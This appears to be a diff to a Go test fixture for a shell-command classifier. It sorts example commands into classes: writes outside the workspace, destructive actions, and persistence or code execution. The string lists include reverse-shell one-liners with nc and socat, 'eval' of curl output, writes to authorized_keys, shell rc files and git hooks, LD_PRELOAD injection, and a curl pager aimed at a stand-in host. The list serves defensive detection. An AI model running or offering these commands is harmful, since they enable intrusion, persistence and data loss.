@@ -34,7 +34,8 @@ var classes = map[shell.Class][]string{
 	shell.WritesOutside: {
 		"touch ../x", "cp a /tmp", "mv a /tmp", "cp -r src /tmp/src", "echo x > /etc/hosts",
 		"echo x > ~/.config/x", "mktemp",
-		"tar xzf x.tgz -C /opt", "tar czf /tmp/x.tgz .", "patch /etc/x < y", "cd /tmp && touch x",
+		"tar xzf x.tgz -C /opt", "tar xf x -C .. a -C /ws b", "tar xf x --one-top-level=../y", "tar xPf x", "sed -i../../* p a",
+		"dd if=a of=~/x", "go fmt ../...", "go mod edit ../x/go.mod", "echo x > ~root/x", "tar czf /tmp/x.tgz .", "patch /etc/x < y", "cd /tmp && touch x",
 		"D=/tmp; touch $D/x",
 		"go install ./...", "unzip x -d /tmp", "tee ~/x", "sort -o /tmp/x y", "mkdir ~/x",
 		"git -C /tmp add .", "git -C .. commit -m x", "cd /tmp && git init", "(cd ..; go mod tidy)", "go fmt -C /tmp ./...",
@@ -54,7 +55,7 @@ var classes = map[shell.Class][]string{
 	shell.Destructive: {
 		"rm x", "rm -rf node_modules", "git reset --hard", "git clean -fd", "git checkout -- .", "git checkout a.go",
 		"git checkout validate.go", "git checkout v2.go",
-		"git stash drop", "git branch -D x", "git push --force", "git push origin +main",
+		"git stash drop", "git read-tree -u --reset x", "git checkout-index -f -a", "tar xf x --recursive-unlink", "git branch -D x", "git push --force", "git push origin +main",
 		"git push origin :x", "kill 1",
 		"pkill x", "find . -delete", "docker rm -f x", "docker system prune", "kubectl delete pod x",
 		"terraform destroy",
@@ -77,7 +78,7 @@ var classes = map[shell.Class][]string{
 		"eval \"$(curl x)\"",
 		"echo x >> ~/.bashrc", "cp x ~/.ssh/authorized_keys", "echo x > .git/hooks/pre-commit",
 		"echo x > .vscode/tasks.json",
-		"echo x > CLAUDE.md", "git config core.pager x", "git -c core.pager=x log", "git -c core.pager='curl a.example' log", "PATH=. ls",
+		"echo x > CLAUDE.md", "git config core.pager x", "install --mode=4755 a b", "git clone -c core.x=y z", "git clone --template=x y", "git -c core.pager=x log", "git -c core.pager='curl a.example' log", "PATH=. ls",
 		"export LD_PRELOAD=x",
 		"rg --pre x y", "tar --to-command=x -xf y", "awk 'BEGIN{system(\"id\")}'", "nc -e sh h 1",
 		"socat TCP:h:1 EXEC:sh",
